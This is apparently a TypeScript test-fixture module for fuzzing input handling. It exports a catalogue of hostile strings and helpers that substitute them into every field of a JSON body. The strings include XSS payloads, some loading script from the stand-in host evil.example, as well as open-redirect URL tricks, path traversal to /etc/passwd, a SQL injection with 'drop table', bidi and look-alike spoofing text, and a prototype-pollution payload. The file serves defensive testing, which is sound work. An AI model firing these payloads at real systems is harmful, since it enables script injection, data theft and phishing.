/**
 * What a server or a host may say where a text is expected. A script that runs calls `hostile`, and whatever leads away names
 * `evil.example`. Nothing in here stands for a browser's own limits: each one has been a fault of somebody.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': '<script>hostile()</script>',
  'a script from elsewhere': '<script src=//evil.example/a.js></script>',
  'a picture that fails': '<img src=https://evil.example/a.png onerror=hostile()>',
  'a drawing that loads': '<svg onload=hostile()><use href="data:image/svg+xml,<svg id=x onload=hostile()>#x"/></svg>',
  'a way out of an attribute': `'" autofocus tabindex=0 onfocus=hostile() x='`,
  'a way out of an element':
    '</p></h2></button></title></textarea></template><iframe srcdoc="<script>parent.hostile()</script>">',
  'a way out of a script': '</script><script>hostile()</script>',
  'a way out of a comment': '--><img src=x onerror=hostile()><!--',
  'a way out of a template': '${hostile()}{{hostile()}}<%= hostile() %>{count}{service}',
  'a mark of the renderer': '<!--?lit$1234$--><?lit$1234$>{{lit-1234}}$lit$',
  'a frame': '<iframe src="javascript:parent.hostile()"></iframe><object data="javascript:hostile()"></object>',
  'another base': '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  'a form': '<form action=https://evil.example/><button formaction=https://evil.example/ autofocus>Go</button></form>',
  'a style': '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style>',
  entities: '&lt;img src=x onerror=hostile()&gt;&#60;script&#62;hostile()&#60;/script&#62;',
  'another encoding': '+ADw-script+AD4-hostile()+ADw-/script+AD4-',
  'an address that runs': 'javascript:hostile()',
  'an address that runs, hidden': ' \u0001\tjava\nscript:\u0000hostile()//',
  'an address in capitals': 'JaVaScRiPt://%0ahostile()',
  'an address that holds a page': 'data:text/html,<script>opener.hostile()</script>',
  'another scheme': 'vbscript:hostile()',
  'a file of the page': 'blob:https://evil.example/0000',
  'another host': 'https://evil.example/',
  'another host without a scheme': '//evil.example/',
  'another host by backslashes': '\\\\evil.example\\',
  'another host by a slash and a backslash': '/\\evil.example/',
  'another host by a tab': '/\t/evil.example/',
  'another host without slashes': 'https:evil.example',
  'another host behind a name': 'https://localhost@evil.example/',
  'another host behind a fragment': 'https://evil.example#@localhost/',
  'a place up': '../../../../../../evil?code=1#code=2',
  'text from right to left': '\u202eelpmaxe.live\u202c',
  'text that turns the rest': '\u202e\u2067\u2066\u202d drawkcab',
  'an end of isolation': '\u2069\u2069\u202c\u202e gnp.exe',
  'marks of direction': '\u200e\u200f\u061c(a)',
  'Hebrew and digits': 'אבג 123 (דה)',
  'zero-width signs': 'a\u200b\u200c\u200d\u2060\ufeffb',
  'signs of no look': '\u00ad\u034f\u115f\u3164\u180e\ufe0f\u{e0041}\u{e007f}',
  'full-width signs': 'ｆｊｏｒｄ．ｂａｎｋ＜ｓｃｒｉｐｔ＞１２３',
  'look-alikes': 'Fјоrd Ваnк · раураl.соm · rn vs m',
  'a Turkish i': 'İıIi ISTANBUL istanbul',
  'many marks on a letter': `Z${'\u0301\u0323\u0489'.repeat(80)}algo`,
  'one long word': 'W'.repeat(4000),
  'a long text': 'word and '.repeat(1500),
  'many lines': 'a\r\nb\u2028c\u2029d\u0085e\vf',
  'a NUL and controls': 'a\u0000b\u0001\u0007\u001b[31mc\u007f\u009b',
  'half a character': 'a\ud800b\udfff\udbffc',
  'no characters': '\ufffe\uffff\u{1ffff}',
  'a member of every object': '__proto__',
  'another member of every object': 'constructor',
  'a method of every object': 'toString',
  blanks: ' \t\n ',
  'signs of a replacement': "$& $1 $` $' $$ $<a> %s %o {0} {name}",
  'a path': '../../etc/passwd%00%2e%2e%2f..;/',
  'a query': '\' or 1=1;-- " ; drop table session',
};

type Json = null | boolean | number | string | readonly Json[] | { readonly [name: string]: Json };

/** Where a value stands in a body: the names and places on the way to it. */
export type Place = readonly (string | number)[];

/** Every value of a body, the body itself first. */
export function* placesIn(body: unknown, place: Place = []): Generator<readonly [Place, unknown]> {
  yield [place, body];
  if (Array.isArray(body)) {
    for (const [at, one] of (body as unknown[]).entries()) yield* placesIn(one, [...place, at]);
  } else if (typeof body === 'object' && body !== null) {
    for (const [name, one] of Object.entries(body)) yield* placesIn(one, [...place, name]);
  }
}

/** The same body with another value in one place; undefined leaves the member out. */
export function withValue(body: unknown, [at, ...rest]: Place, value: unknown): unknown {
  if (at === undefined) return value;
  const copy = (Array.isArray(body) ? [...(body as unknown[])] : { ...(body as object) }) as Record<
    string | number,
    unknown
  >;
  copy[at] = withValue(copy[at], rest, value);
  return copy;
}

/** The same body with every string that `change` knows another one for. */
export function withStrings(body: unknown, change: (text: string, name: string) => string, name = ''): unknown {
  if (typeof body === 'string') return change(body, name);
  if (Array.isArray(body)) return (body as unknown[]).map((one) => withStrings(one, change, name));
  if (typeof body !== 'object' || body === null) return body;
  return Object.fromEntries(Object.entries(body).map(([key, one]) => [key, withStrings(one, change, key)]));
}

/** One value of each type that JSON has, and those at its edges. */
export const TYPES: Readonly<Record<string, Json>> = {
  null: null,
  true: true,
  false: false,
  'an empty text': '',
  'a text': 'of the wrong type',
  'a member of every object': '__proto__',
  zero: 0,
  'less than zero': -1,
  'a fraction': 0.5,
  'the largest whole number': Number.MAX_SAFE_INTEGER,
  'a number past all dates': 8_640_000_000_000_001,
  'a number past all': 1e308,
  'an empty list': [],
  'a list': [1, 'two', null, {}],
  'a list of lists': [[[[]]]],
  'an empty object': {},
  'an object': { length: 3, then: 'no', toString: 1, kind: 'telepathy' },
};

/** `[[[[…]]]]`, or `{"a":{"a":…}}`. */
export const deep = (levels: number, [before, after]: readonly [string, string] = ['[', ']']): string =>
  before.repeat(levels) + (before.endsWith(':') ? '1' : '') + after.repeat(levels);
export const IN_OBJECTS = ['{"a":', '}'] as const;

/** Members that would change every object, were they merged into one. */
export const POLLUTING = '"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}';
export const isPolluted = (): boolean => 'polluted' in {} || 'polluted' in [] || 'polluted' in (() => undefined);
